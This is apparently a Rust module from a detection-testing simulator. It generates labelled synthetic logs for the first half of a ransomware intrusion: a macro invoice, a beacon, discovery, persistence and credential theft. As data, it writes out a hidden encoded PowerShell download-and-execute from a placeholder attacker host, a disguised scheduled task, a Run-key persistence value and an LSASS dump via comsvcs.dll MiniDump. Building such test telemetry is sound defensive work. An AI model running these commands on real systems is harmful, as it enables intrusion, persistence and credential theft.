//! The ransomware, first half: Wednesday morning, from an invoice that Ana opens to the memory of LSASS on her desk.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use super::clock::{At, at, window};
use super::log::{Mark, Side};
use super::network::{Conn, Sensors};
use super::windows::{Host, Process, Start, audit};
use super::windows_life::{service_ticket, session};
use super::world::*;

pub const ID: &str = "ransomware";
pub const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

pub fn mark(
    stage: &'static str,
    technique: &'static str,
    what: &'static str,
    rules: &'static [&'static str],
) -> Mark {
    Mark { side: Side::Attack(ID), stage, technique, what, rules }
}

/// What `-EncodedCommand` is given.
pub fn encoded(script: &str) -> String {
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(wide)
}

/// A program started by one that the crew holds, in the same session.
pub fn child<'a>(
    image: &'a str,
    command: &'a str,
    parent: &'a Process,
    integrity: &'static str,
) -> Start<'a> {
    Start { image, command, parent, user: parent.user.clone(), logon: &parent.logon, integrity }
}

/// 09:41 to 10:33, and the beacon from then until the next morning. The crew's shell is given back.
pub fn first_desk(ana: &mut Host, dc: &mut Host, net: &mut Sensors) -> Process {
    let shell = invoice(ana, net);
    beacon(ana, &shell, net);
    look_around(ana, &shell);
    stay(ana, &shell);
    credentials(ana, dc, &shell);
    shell
}

fn invoice(ana: &mut Host, net: &mut Sensors) -> Process {
    let stage = "1-phish";
    let t = at(2, 9, 41, 12);
    let outlook = ana.standing(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        &ANA.account(),
        &session(&ANA, 2),
    );
    let saved = mark(stage, "T1566.001", "the attachment is saved by Outlook", &[]);
    let document = "C:\\Users\\ana\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3X7QF2P\\Invoice_2291.docm";
    ana.creates(t, &outlook, document, Some(&saved));
    let word_image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let word_command = format!("\"{word_image}\" /n \"{document}\" /o \"\"");
    let opens = mark(stage, "T1204.002", "Ana opens it", &[]);
    let word = ana.start(t.plus_s(9), &child(word_image, &word_command, &outlook, "Medium"), Some(&opens));
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('https://{CREW_NAME}/u')");
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded(&script));
    let macro_runs = mark(
        stage,
        "T1059.001",
        "the macro starts PowerShell with an encoded command",
        &[
            "windows/process_creation/office_starts_script_host",
            "windows/process_creation/powershell_encoded_command",
        ],
    );
    let t = at(2, 9, 42, 10);
    let shell = ana.start(t, &child(POWERSHELL, &command, &word, "Medium"), Some(&macro_runs));
    let block = mark(stage, "T1059.001", "the script that it decodes to", &[]);
    ana.runs_script(t.plus_ms(700), &script, "", Some(&block));
    let calls = mark(stage, "T1071.001", "PowerShell calls the crew", &[]);
    ana.resolves(t.plus_ms(800), &shell, CREW_NAME, CREW, Some(&calls));
    ana.connects(t.plus_ms(850), &shell, (CREW, CREW_NAME, 443), Some(&calls));
    net.query(t.plus_ms(790), WS_ANA.address, CREW_NAME, "A", CREW, Some(&calls));
    shell
}

/// Every twenty minutes or so; the sensor knows the handshake and says so now and then.
fn beacon(ana: &mut Host, shell: &Process, net: &mut Sensors) {
    let stage = "2-beacon";
    let calls = mark(stage, "T1071.001", "the beacon calls home", &[]);
    let seen = mark(stage, "T1071.001", "the sensor knows it", &["suricata/eve/trojan_alert_let_through"]);
    let signature = (
        9_000_001,
        "LOCAL Beacon over TLS to quillstone",
        "Malware Command and Control Activity Detected",
        1,
    );
    let mut t = at(2, 9, 42, 12);
    let mut n = 0;
    while t < window().1.plus_s(-5 * 3600) {
        let (sent, received) = (net.random.between(900, 2_400), net.random.between(1_100, 5_200));
        let c =
            Conn { from: WS_ANA.address, to: CREW, port: 443, service: "ssl", sent, received, seconds: 3 };
        net.connection(t, &c, Some(&calls));
        net.outbound(t, ("inside", WS_ANA.address), (CREW, 443), (3, sent + received), Some(&calls));
        if n % 6 == 0 {
            net.alert(t.plus_ms(40), WS_ANA.address, (CREW, 443), signature, Some(&seen));
            net.handshake(t.plus_ms(41), WS_ANA.address, (CREW, CREW_NAME), Some(&calls));
            ana.connects(t.plus_ms(5), shell, (CREW, CREW_NAME, 443), Some(&calls));
        }
        n += 1;
        t = t.plus_s(1200 + net.random.between(-90, 90));
    }
}

fn look_around(ana: &mut Host, shell: &Process) {
    let found = mark(
        "3-discovery",
        "T1087.002",
        "the crew looks around",
        &["windows/process_creation/discovery_burst"],
    );
    let questions = [
        (0, "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
        (48, "nltest.exe", "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts"),
        (95, "net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain"),
        (160, "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all"),
        (231, "systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\""),
    ];
    for (after, name, command) in questions {
        let image = format!("C:\\Windows\\System32\\{name}");
        ana.start(at(2, 9, 50, 3).plus_s(after), &child(&image, command, shell, "Medium"), Some(&found));
    }
}

fn stay(ana: &mut Host, shell: &Process) {
    let stage = "4-persistence";
    let payload = encoded("IEX (gc $env:APPDATA\\u.txt -Raw)");
    let command = format!(
        "schtasks.exe /create /tn \"OneDrive Sync Helper\" /sc hourly /tr \"powershell -w hidden -enc {payload}\" /f"
    );
    let t = at(2, 10, 5, 18);
    let task = mark(
        stage,
        "T1053.005",
        "a task that runs encoded PowerShell each hour",
        &["windows/process_creation/scheduled_task_runs_script"],
    );
    let tasks =
        ana.start(t, &child("C:\\Windows\\System32\\schtasks.exe", &command, shell, "Medium"), Some(&task));
    let stored =
        mark(stage, "T1053.005", "the task is stored", &["windows/security/scheduled_task_hides_code"]);
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition></TimeTrigger></Triggers>\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -enc {payload}</Arguments></Exec></Actions>\r\n</Task>"
    );
    ana.put(
        t.plus_ms(220),
        audit(4698, 1, 12804, "Other Object Access Events"),
        vec![
            ("SubjectUserSid", json!(ANA.sid())),
            ("SubjectUserName", json!(ANA.user)),
            ("SubjectDomainName", json!(NETBIOS)),
            ("SubjectLogonId", json!(shell.logon)),
            ("TaskName", json!("\\OneDrive Sync Helper")),
            ("TaskContent", json!(content)),
            ("ClientProcessStartKey", json!("4503599627370912")),
            ("ClientProcessId", json!(tasks.pid)),
            ("ParentProcessId", json!(shell.pid)),
            ("RpcCallClientLocality", json!(0)),
            ("FQDN", json!(WS_ANA.fqdn)),
        ],
        Some(&stored),
    );
    let run = mark(
        stage,
        "T1547.001",
        "a value that starts a script at logon",
        &["windows/registry_set/run_key_in_user_reach"],
    );
    let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", ANA.sid());
    let script = "wscript.exe C:\\Users\\ana\\AppData\\Local\\Temp\\u.vbs";
    ana.sets_value(at(2, 10, 8, 2), shell, &key, script, Some(&run));
}

fn credentials(ana: &mut Host, dc: &mut Host, shell: &Process) {
    let stage = "5-credentials";
    let roast = mark(
        stage,
        "T1558.003",
        "weak tickets of services asked for one after another",
        &["windows/security/kerberoasting"],
    );
    let services = ["svc-sql", "svc-archive", "svc-intranet", "svc-scan", "svc-print2"];
    for (i, service) in services.iter().enumerate() {
        let t = at(2, 10, 20, 14).plus_ms(i as i64 * 420);
        service_ticket(dc, t, &ANA, service, "0x17", WS_ANA.address, Some(&roast));
    }
    let dump = mark(
        stage,
        "T1003.001",
        "the memory of LSASS, where the administrator's visit of the morning is remembered, is written out by rundll32",
        &["windows/process_creation/lsass_dump_comsvcs"],
    );
    let command =
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\lsass.dmp full";
    let t = at(2, 10, 32, 41);
    let rundll =
        ana.start(t, &child("C:\\Windows\\System32\\rundll32.exe", command, shell, "High"), Some(&dump));
    let opened =
        mark(stage, "T1003.001", "LSASS is opened for that", &["windows/process_access/lsass_memory_read"]);
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+27a0d";
    ana.opens_lsass(t.plus_ms(60), &rundll, "0x1fffff", trace, Some(&opened));
    let written = mark(
        stage,
        "T1003.001",
        "the dump lies in the folder for temporary files",
        &["windows/file_event/lsass_dump_written"],
    );
    ana.creates(t.plus_ms(400), &rundll, "C:\\Windows\\Temp\\lsass.dmp", Some(&written));
}

/// A moment of this attack that is asked about elsewhere.
pub fn exfiltration_begins() -> At {
    at(2, 20, 12, 9)
}
